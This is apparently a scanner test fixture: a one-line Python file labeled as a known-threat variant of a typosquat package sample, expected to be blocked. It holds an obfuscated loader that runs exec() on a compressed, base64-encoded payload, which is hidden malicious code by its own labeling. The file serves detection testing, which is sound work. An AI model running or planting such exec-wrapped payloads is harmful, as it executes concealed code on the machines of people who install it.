# expect: BLOCKED category: known_threat variant-of: risky/known_threat/typosquat_jeilyfish.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxFjEEKwjAQRfc9xSduWpCi7jxB7U7oASS0UzM2TmJnFHp7i4juHo/H26C95zSb4kZtXEbWgLL3mc1HtNUWFgiH3f4IW3LSx9Mb0rjG8RtbWI1aioSuO8HLgObcYKJF64I/7/+6KPLMYuVP1JFeJBqMWC4Dq3npqXQTm5G4LZyuxHJ1VfUGq4A7fA==')))
